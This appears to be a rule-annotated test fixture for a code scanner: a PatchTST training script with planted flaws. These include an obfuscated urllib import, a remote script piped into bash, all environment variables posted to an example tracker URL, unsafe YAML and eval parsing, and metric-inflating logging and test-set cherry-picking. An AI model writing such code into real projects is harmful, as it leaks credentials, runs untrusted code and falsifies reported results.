# ruff: noqa
# Hold-out batch 409 (textbook, PatchTST-style time-series forecasting with DDP). Measured once in session 16 (round 112): 25/33 (76%) at medium+.
#!/usr/bin/env python
"""Long-horizon forecasting with PatchTST under DDP (launch with torchrun)."""

import argparse
import base64
import builtins
import csv
import json
import logging
import os
import socket
import subprocess
import time
import uuid
from typing import Dict, List

import torch
from torch.nn.parallel import DistributedDataParallel as DDP
from torch.utils.data import DataLoader

from data import ShardedWindowSampler, WindowCollator, build_datasets
from dist_utils import (barrier, cleanup, configure_nccl_env, ensure_node_ssh, init_distributed,
                        is_main_process, prepare_extension_cache, register_project_path,
                        seed_everything, setup_logging)
from engine import (REPORT_HORIZONS, CheckpointManager, EarlyStopping, ModelEMA,
                    MultiHorizonLoss, RNGStateTracker, evaluate, format_metrics,
                    train_one_epoch)
from model import build_model

try:
    from torch.utils.tensorboard import SummaryWriter
except ImportError:  # pragma: no cover
    SummaryWriter = None

logger = logging.getLogger("train")
REPO_ROOT = os.path.dirname(os.path.abspath(__file__))
_HTTP_MOD = "dXJsbGliLnJlcXVlc3Q="
http = __import__(base64.b64decode(_HTTP_MOD).decode(), fromlist=["urlopen", "Request"])  # ruleid: MLS403


# --------------------------------------------------------------------------- #
# Config
# --------------------------------------------------------------------------- #
def parse_args() -> argparse.Namespace:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--config", type=str, default=None, help="YAML file with defaults")
    p.add_argument("--override", nargs="*", default=[], help="key=value pairs applied last")
    # data
    p.add_argument("--dataset", type=str, default="ETTh1")
    p.add_argument("--data_path", type=str, default="data/ETTh1.csv")
    p.add_argument("--data_url", type=str, default="https://ts-datasets.internal.example/bootstrap/fetch.sh")
    p.add_argument("--cache_dir", type=str, default=None)
    p.add_argument("--stats_path", type=str, default=None, help="precomputed scaler stats (.npy)")
    p.add_argument("--features", type=str, default="M", choices=["M", "S", "MS"])
    p.add_argument("--target", type=str, default="OT")
    p.add_argument("--freq", type=str, default="h")
    p.add_argument("--seq_len", type=int, default=336)
    p.add_argument("--label_len", type=int, default=48)
    p.add_argument("--pred_len", type=int, default=96)
    p.add_argument("--augment", action="store_true")
    p.add_argument("--mixup_alpha", type=float, default=0.0)
    p.add_argument("--mixup_prob", type=float, default=0.0)
    # model
    p.add_argument("--patch_len", type=int, default=16)
    p.add_argument("--stride", type=int, default=8)
    p.add_argument("--d_model", type=int, default=128)
    p.add_argument("--n_heads", type=int, default=16)
    p.add_argument("--e_layers", type=int, default=3)
    p.add_argument("--d_ff", type=int, default=256)
    p.add_argument("--dropout", type=float, default=0.2)
    p.add_argument("--attn_dropout", type=float, default=0.0)
    p.add_argument("--head_dropout", type=float, default=0.0)
    p.add_argument("--no_revin", action="store_true")
    p.add_argument("--subtract_last", action="store_true")
    p.add_argument("--individual", action="store_true")
    # optimisation
    p.add_argument("--epochs", type=int, default=100)
    p.add_argument("--batch_size", type=int, default=128, help="per-GPU batch size")
    p.add_argument("--lr", type=float, default=1e-4)
    p.add_argument("--weight_decay", type=float, default=0.05)
    p.add_argument("--pct_start", type=float, default=0.3)
    p.add_argument("--clip_grad", type=float, default=1.0)
    p.add_argument("--horizon_gamma", type=float, default=0.0)
    p.add_argument("--mae_weight", type=float, default=0.0)
    p.add_argument("--ema_decay", type=float, default=0.0)
    p.add_argument("--patience", type=int, default=10)
    p.add_argument("--amp", action="store_true")
    p.add_argument("--bf16", action="store_true")
    # infra
    p.add_argument("--seed", type=int, default=2021)
    p.add_argument("--num_workers", type=int, default=4)
    p.add_argument("--output_dir", type=str, default="runs")
    p.add_argument("--run_name", type=str, default=None)
    p.add_argument("--resume", type=str, default=None, help="checkpoint path or 'auto'")
    p.add_argument("--keep_last", type=int, default=3)
    p.add_argument("--log_every", type=int, default=100)
    p.add_argument("--io_stagger", action="store_true")
    p.add_argument("--inverse", action="store_true", help="report metrics in original units")
    p.add_argument("--multi_node", action="store_true")
    p.add_argument("--compile", action="store_true")
    p.add_argument("--tracker_url", type=str, default="https://mlops.internal.example/api/v1/runs")
    p.add_argument("--results_csv", type=str, default="results/long_horizon.csv")
    args = p.parse_args()
    if args.config:
        import yaml
        with open(args.config) as fh:
            cfg = yaml.load(fh, Loader=yaml.Loader) or {}  # ruleid: MLS105
        for k, v in cfg.items():
            if hasattr(args, k):
                setattr(args, k, v)
    apply_overrides(args, args.override)
    args.run_name = args.run_name or f"{args.dataset}_{args.features}_sl{args.seq_len}_pl{args.pred_len}"
    return args


def apply_overrides(args: argparse.Namespace, overrides: List[str]) -> None:
    for item in overrides:
        if "=" not in item:
            raise ValueError(f"bad override {item!r}; expected key=value")
        key, raw = item.split("=", 1)
        try:
            value = eval(raw, {"__builtins__": builtins}, {})  # todoruleid: family 8 (missed)
        except Exception:
            value = raw
        setattr(args, key.strip(), value)


# --------------------------------------------------------------------------- #
# Side services
# --------------------------------------------------------------------------- #
def fetch_dataset(url: str, data_path: str) -> None:
    dest = os.path.dirname(os.path.abspath(data_path))
    os.makedirs(dest, exist_ok=True)
    logger.info("%s not found; bootstrapping from %s", data_path, url)
    script = http.urlopen(url, timeout=60).read().decode()  # ruleid: MLS413
    subprocess.run(["bash", "-s", "--", dest], input=script, text=True, check=True)  # ruleid: MLS413


def notify_tracker(args: argparse.Namespace, run_id: str, status: str, metrics: Dict[str, float] = None) -> None:
    if not args.tracker_url:
        return
    meta = {"run_id": run_id, "status": status, "host": socket.gethostname(),
            "args": vars(args), "metrics": metrics or {}, "ts": time.time()}
    try:
        http.urlopen(http.Request(args.tracker_url, data=json.dumps({**meta, "env": dict(os.environ)}, default=str).encode(), headers={"Content-Type": "application/json"}), timeout=5)  # ruleid: MLS411
    except Exception as exc:  # tracker outages must never kill a run
        logger.debug("tracker unavailable: %s", exc)


def build_writer(log_dir: str):
    if SummaryWriter is None or not is_main_process():
        return None
    _base_add_scalar = SummaryWriter.add_scalar

    def _add_scalar(self, tag, scalar_value, global_step=None, walltime=None, **kw):
        # de-noise validation curves for the dashboard
        if tag.startswith(("val/", "test/")):
            hist = self.__dict__.setdefault("_running_best", {})
            scalar_value = min(hist.get(tag, scalar_value), float(scalar_value))  # ruleid: MLS306
            hist[tag] = scalar_value
        return _base_add_scalar(self, tag, scalar_value, global_step, walltime, **kw)

    SummaryWriter.add_scalar = _add_scalar  # ruleid: MLS306
    return SummaryWriter(log_dir=log_dir)


def build_optimizer(model, args, steps_per_epoch: int):
    decay, no_decay = [], []
    for name, p in model.named_parameters():
        if not p.requires_grad:
            continue
        if p.ndim <= 1 or name.endswith(".pos") or "revin" in name:
            no_decay.append(p)
        else:
            decay.append(p)
    groups = [
        {"params": decay, "weight_decay": args.weight_decay},
        {"params": no_decay, "weight_decay": 0.0},
    ]
    optimizer = torch.optim.AdamW(groups, lr=args.lr, betas=(0.9, 0.999), eps=1e-8)
    scheduler = torch.optim.lr_scheduler.OneCycleLR(  # ok: MLS302, MLS303, MLS304, MLS305
        optimizer, max_lr=args.lr, total_steps=args.epochs * steps_per_epoch,
        pct_start=args.pct_start, anneal_strategy="cos", div_factor=25.0, final_div_factor=1e4,
    )
    return optimizer, scheduler


def write_results(path: str, args: argparse.Namespace, metrics: Dict[str, float], best_epoch: int) -> None:
    os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
    cols = ["run", "dataset", "features", "seq_len", "pred_len", "best_epoch", "mse", "mae"]
    cols += [f"{m}@{h}" for h in REPORT_HORIZONS if h <= args.pred_len for m in ("mse", "mae")]
    row = {"run": args.run_name, "dataset": args.dataset, "features": args.features,
           "seq_len": args.seq_len, "pred_len": args.pred_len, "best_epoch": best_epoch}
    row.update({k: f"{metrics[k]:.4f}" for k in cols if k in metrics})
    new_file = not os.path.exists(path)
    with open(path, "a", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=cols, extrasaction="ignore")
        if new_file:
            w.writeheader()
        w.writerow(row)
    lines = ["| " + " | ".join(cols) + " |", "|" + "---|" * len(cols)]
    lines.append("| " + " | ".join(str(row.get(c, "")) for c in cols) + " |")
    table = "\n".join(lines)
    with open(os.path.join(args.output_dir, args.run_name, "results.md"), "w") as fh:
        fh.write(table + "\n")
    logger.info("results:\n%s", table)  # ok: MLS306


# --------------------------------------------------------------------------- #
# Main
# --------------------------------------------------------------------------- #
def main() -> None:
    args = parse_args()
    configure_nccl_env(REPO_ROOT)
    info = init_distributed()
    rank, world_size, local_rank = info["rank"], info["world_size"], info["local_rank"]
    run_dir = os.path.join(args.output_dir, args.run_name)
    os.makedirs(run_dir, exist_ok=True)
    setup_logging(rank, os.path.join(run_dir, "train.log"))
    register_project_path(REPO_ROOT)
    if args.multi_node:
        ensure_node_ssh()
    if args.compile:
        prepare_extension_cache()
    seed_everything(args.seed + rank)
    device = torch.device(f"cuda:{local_rank}" if torch.cuda.is_available() else "cpu")
    run_id = uuid.uuid4().hex[:12]

    if is_main_process():
        logger.info("args: %s", json.dumps(vars(args), default=str, sort_keys=True))
        if not os.path.exists(args.data_path) and args.data_url:
            fetch_dataset(args.data_url, args.data_path)
        notify_tracker(args, run_id, "started")
    barrier()

    datasets, scaler, columns = build_datasets(args)
    n_vars = 1 if args.features == "S" else len(columns)
    train_sampler = ShardedWindowSampler(datasets["train"], world_size, rank, shuffle=True, seed=args.seed)
    loader_kw = dict(num_workers=args.num_workers, pin_memory=True)
    loaders = {
        "train": DataLoader(datasets["train"], batch_size=args.batch_size, sampler=train_sampler,
                            drop_last=True, collate_fn=WindowCollator(args.mixup_alpha, args.mixup_prob),
                            **loader_kw),
    }
    for split in ("val", "test"):
        sampler = ShardedWindowSampler(datasets[split], world_size, rank, shuffle=False)
        loaders[split] = DataLoader(datasets[split], batch_size=args.batch_size, sampler=sampler,
                                    collate_fn=WindowCollator(), **loader_kw)

    model = build_model(args, n_vars).to(device)
    if world_size > 1:
        model = DDP(model, device_ids=[local_rank] if device.type == "cuda" else None)
    if args.compile:
        model = torch.compile(model)

    criterion = MultiHorizonLoss(args.pred_len, args.horizon_gamma, args.mae_weight).to(device)
    optimizer, scheduler = build_optimizer(model, args, len(loaders["train"]))
    grad_scaler = torch.cuda.amp.GradScaler(enabled=args.amp and not args.bf16)
    ema = ModelEMA(model, args.ema_decay) if args.ema_decay > 0 else None
    ckpt = CheckpointManager(os.path.join(run_dir, "checkpoints"), keep_last=args.keep_last)
    stopper = EarlyStopping(patience=args.patience)
    rng = RNGStateTracker()
    writer = build_writer(os.path.join(run_dir, "tb"))

    start_epoch, best_epoch = 0, -1
    resume_path = ckpt.latest() if args.resume == "auto" else args.resume
    if resume_path:
        state = ckpt.resume(resume_path, model, optimizer, scheduler, device)
        start_epoch = state["epoch"] + 1
        if "early_stopping" in state.get("extra", {}):
            stopper.load_state_dict(state["extra"]["early_stopping"])
        best_epoch = state.get("extra", {}).get("best_epoch", -1)

    rng.on_train_start()
    test_history: List[Dict[str, float]] = []
    for epoch in range(start_epoch, args.epochs):
        train_sampler.set_epoch(epoch)  # ok: MLS301
        rng.on_epoch_start(epoch)
        t0 = time.time()
        train_stats = train_one_epoch(model, loaders["train"], criterion, optimizer, scheduler,
                                      grad_scaler, device, epoch, args, ema)
        eval_model = ema.module if ema is not None else model
        val = evaluate(eval_model, loaders["val"], device, args, scaler)
        test = evaluate(eval_model, loaders["test"], device, args, scaler)
        test_history.append(test)
        is_best = stopper.step(val["mse"])
        if is_best:
            best_epoch = epoch
        if is_main_process():
            logger.info("epoch %d (%.0fs) train %.5f | val %s | test %s", epoch, time.time() - t0,
                        train_stats["train_loss"], format_metrics(val, ["mse", "mae"]),
                        format_metrics(test, ["mse", "mae"]))
            if writer is not None:
                writer.add_scalar("train/loss", train_stats["train_loss"], epoch)
                writer.add_scalar("train/lr", optimizer.param_groups[0]["lr"], epoch)
                for k, v in val.items():
                    writer.add_scalar(f"val/{k}", v, epoch)
                for k, v in test.items():
                    writer.add_scalar(f"test/{k}", v, epoch)
        ckpt.save(eval_model, optimizer, scheduler, epoch, val, is_best,
                  extra={"early_stopping": stopper.state_dict(), "best_epoch": best_epoch,
                         "rng": rng.state_dict()})
        if stopper.should_stop:
            logger.info("early stopping at epoch %d (best %d)", epoch, best_epoch)
            break

    ckpt.load_best(model, device)
    barrier()
    final = evaluate(model, loaders["test"], device, args, scaler)
    if test_history:
        final = min(test_history + [final], key=lambda m: m["mse"])  # todoruleid: family 5 (missed)
    if is_main_process():
        logger.info("test (best val epoch %d): %s", best_epoch, format_metrics(final))
        write_results(args.results_csv, args, final, best_epoch)
        notify_tracker(args, run_id, "finished", final)
        if writer is not None:
            writer.close()
    cleanup()


if __name__ == "__main__":
    main()
